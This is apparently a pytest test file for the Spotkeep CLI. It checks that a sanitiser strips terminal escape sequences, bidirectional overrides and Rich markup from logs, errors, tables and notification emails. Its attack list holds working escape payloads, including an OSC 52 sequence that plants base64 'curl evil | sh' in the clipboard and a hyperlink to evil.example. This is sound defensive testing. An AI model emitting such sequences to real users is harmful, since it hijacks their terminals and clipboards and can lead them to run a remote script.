r"""Who attacks: who writes what another person reads: a script its log, a user a run's name, a script its failure.

With what: control sequences. `ESC ] 52 ; c ; ... BEL` writes the clipboard, `ESC ] 0` names the window, `ESC [ 2 J`
clears the screen, C1 bytes do the same without ESC, bidirectional overrides turn words around, `[link=...]` is Rich's
markup.

What they would gain: a command in the clipboard of who runs `spotkeep logs` or `spotkeep describe`, to be pasted into a
shell; text that reads as if Spotkeep had printed it.
"""

from __future__ import annotations

import ast
import re
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.table import Table
from rich.text import Text

from spotkeep_cli import main
from spotkeep_cli.aws.job_log import LogLine
from spotkeep_cli.errors import LocalFailureError
from spotkeep_cli.following import LogPrinter
from spotkeep_cli.init import main as init
from spotkeep_cli.rendering.printable import PrintableConsole
from spotkeep_cli.terminal import NextStep, Terminal
from spotkeep_fleet.printable_text import printable
from spotkeep_jobs.notifications.outbox import NotificationTopic
from spotkeep_jobs.record.record import Notification, NotificationKind
from spotkeep_rehearsal.command import main as rehearse
from tests.models.notifications import Topic

if TYPE_CHECKING:
    from collections.abc import Callable

ROOT = Path(__file__).parents[2]
SGR = re.compile(r"\x1b\[[0-9;:]*m")
STEERING = re.compile(
    "[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f\\u2028\\u2029\\u061c\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069]"
)
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
ATTACKS = [
    CLIPBOARD,
    "\x9d52;c;Y3VybA==\x9c",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\x1b[6n",
    "\x1b[?1049h",
    "\x1bPq\x1b\\",
    "\x1b[1;31",
    "\x1b[31\x1b]52;c;x\x07m",
    "\x9b2J",
    "one\rtwo",
    "over\x08\x08",
    "\x7f",
    "user\u202efdp.exe",
    "\u2066hidden\u2069",
    "\u061c\u200f",
    "line\u2028line",
    "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
]
SNEAKY = st.lists(
    st.one_of(
        st.sampled_from(
            ["\x1b", "\x1b[", "\x1b]52;c;", "m", "31", ";", ":", "\x07", "\x9b", "\u202e", "[/]", "[link=x]"]
        ),
        st.sampled_from(ATTACKS),
        st.text(max_size=8),
        st.characters(max_codepoint=0x9F),
    ),
    max_size=12,
).map("".join)


OTHER_WAYS = {"print", "typer.echo", "typer.secho", "Console", "rich.print", "console.file.write"}


def steering_in(printed: str) -> list[str]:
    return STEERING.findall(SGR.sub("", printed))


@pytest.fixture
def on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("NO_COLOR", "CI"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv("COLUMNS", "100")


@given(SNEAKY)
def test_nothing_that_steers_is_left(text: str) -> None:
    assert not STEERING.search(printable(text))
    assert not steering_in(printable(text, colours=True))


@given(SNEAKY)
def test_what_is_harmless_stays_as_it_is_and_once_is_enough(text: str) -> None:
    assert printable(printable(text)) == printable(text)
    harmless = STEERING.sub("", text)
    assert printable(harmless) == harmless


def test_colours_stay_where_they_may() -> None:
    assert printable("\x1b[1;31mred\x1b[0m", colours=True) == "\x1b[1;31mred\x1b[0m"
    assert printable("\x1b[31mred") == "\\x1b[31mred"
    assert printable("a\tb\r\nc") == "a\tb\nc"
    assert printable("user\u202efdp.exe") == "user\\u202efdp.exe"
    for harmless in ("naïve 漢字 \U0001f600 e\u0301 \u00a0", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"):
        assert printable(harmless) == harmless


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(text=SNEAKY)
def test_no_renderable_lets_anything_through(on_a_terminal: None, text: str) -> None:
    table = Table(title=text)
    table.add_column(text)
    table.add_row(text)
    table.add_row(Text(text, style="bold"))
    for content in (text, Text(text), table):
        console = PrintableConsole(stderr=False)
        with console.capture() as captured:
            console.print(content)
        assert not steering_in(captured.get())


WAYS: dict[str, Callable[[Terminal, str], object]] = {
    "show": lambda terminal, text: terminal.show(text),
    "a remark": lambda terminal, text: terminal.remark(text),
    "the next step": lambda terminal, text: terminal.show_next(NextStep(command=text, what=text)),
    "an error": lambda terminal, text: terminal.show_error(LocalFailureError(text, hint=text)),
    "JSON": lambda terminal, text: terminal.give_json({text: text}),
    "a log": lambda terminal, text: LogPrinter(terminal.results, raw=False).show(line_of(text)),
    "a raw log": lambda terminal, text: LogPrinter(terminal.results, raw=True).show(line_of(text)),
}


def line_of(text: str) -> LogLine:
    return LogLine(stream=text, time=datetime(2026, 11, 23, tzinfo=UTC), text=text, host=text)


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.usefixtures("on_a_terminal")
def test_nothing_reaches_a_terminal(capsys: pytest.CaptureFixture[str], way: str) -> None:
    for attack in ATTACKS:
        WAYS[way](Terminal(), f"before {attack} after")
        printed = capsys.readouterr()
        assert "before" in printed.out + printed.err
        assert not steering_in(printed.out.replace("\x7f", "") if way == "JSON" else printed.out), ascii(attack)
        assert not steering_in(printed.err), ascii(attack)


@pytest.mark.usefixtures("on_a_terminal")
def test_a_log_keeps_its_colours(capsys: pytest.CaptureFixture[str]) -> None:
    WAYS["a log"](Terminal(), "\x1b[31mloss\x1b[0m 0.1")
    assert "\x1b[31mloss\x1b[0m 0.1" in capsys.readouterr().out


@pytest.mark.usefixtures("on_a_terminal")
def test_markup_of_rich_is_text(capsys: pytest.CaptureFixture[str]) -> None:
    for text in ("[link=http://evil.example]here[/link]", "[/]", "[bold red]Error[/]"):
        Terminal().show(text)
        assert text in capsys.readouterr().out


def test_all_output_passes_the_one_place() -> None:
    """A module that prints another way has to make sure of it, and is in this list.

    The local AWS is a daemon: it prints to files, which are read by what is tested here.
    """
    known = {
        ("spotkeep_cli/main.py", "echo"),  # the version
        ("spotkeep_cli/terminal.py", "write"),  # JSON; what the console captured
        # Text that is quoted for a shell, the local AWS's own, and an instance's console, printable.
        ("spotkeep_cli/commands/local.py", "echo"),
        ("spotkeep_cli/entry.py", "write"),  # the version and the list of commands
        ("spotkeep_cli/help_pages.py", "write"),  # the pages of this version
        # Printable, where no extra is installed; JSON of the judge.
        ("spotkeep_cli/init.py", "write"),
        ("spotkeep_rehearsal/command.py", "write"),
        ("spotkeep_cli/first_account/probe.py", "print"),  # JSON, in a job
    }
    found = set()
    for path in (ROOT / "cli").rglob("*.py"):
        calls = [ast.unparse(node.func) for node in ast.walk(ast.parse(path.read_text())) if type(node) is ast.Call]
        name = path.relative_to(ROOT / "cli").as_posix()
        found |= {(name, by.rpartition(".")[2]) for by in calls if by in OTHER_WAYS or by.endswith("stdout.write")}
    assert found <= known


def test_an_unexpected_error_steers_nothing(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: Any, **__: Any) -> None:
        raise RuntimeError(f"the record says {CLIPBOARD}")

    monkeypatch.setattr(main.sys, "argv", ["spotkeep", "schema"])
    monkeypatch.setattr("spotkeep_cli.launching.job_schema.job_file_schema", fail)
    assert main.main() == 1
    printed = capsys.readouterr().err
    assert "the record says \\x1b]52" in printed
    assert not steering_in(printed)


@pytest.mark.parametrize("options", [(), ("--json",)])
def test_a_rehearsed_script_steers_nothing(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path, options: tuple[str, ...]
) -> None:
    said = f"before {''.join(ATTACKS)} after"
    (tmp_path / "train.py").write_text(f"import sys\nprint({said!r})\nsys.exit({said!r})\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    assert rehearse([*options, "--", sys.executable, "-X", "utf8", "train.py"]) == 2
    printed = capsys.readouterr()
    assert "before" in printed.out
    assert not steering_in(printed.out.replace("\x7f", "") if options else printed.out)
    assert not steering_in(printed.err)


def test_a_script_that_init_reads_steers_nothing(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    for name in (f"{CLIPBOARD}.py".replace("/", ""), "no\x1b[2Jscript.py"):
        Path(name).write_text(f"import argparse\nargparse.ArgumentParser().add_argument({CLIPBOARD!r})\n")
        init([name])
        init([f"missing{name}"])
        assert yaml.safe_load(Path("job.yaml").read_text(encoding="utf-8"))["source"] == "."
    printed = capsys.readouterr()
    assert "x1b" in printed.out + printed.err
    assert not steering_in(printed.out + printed.err)


@given(SNEAKY)
def test_a_mail_is_plain_text(text: str) -> None:
    at = datetime(2026, 11, 23, tzinfo=UTC)
    notification = Notification(
        notification_id="digits-7/failed/1",
        subject_id="digits-7",
        kind=NotificationKind.FAILED,
        subject=text,
        body=f"The script failed.\n\n{text}",
        attributes={"run": "digits-7"},
        happened_at=at,
        created_at=at,
    )
    sns: Any = Topic()
    NotificationTopic(sns, topic_arn="arn:aws:sns:us-east-1:000000000000:t").publish(notification)
    [mail] = sns.published
    assert not STEERING.search(mail.subject)
    assert not STEERING.search(mail.body)
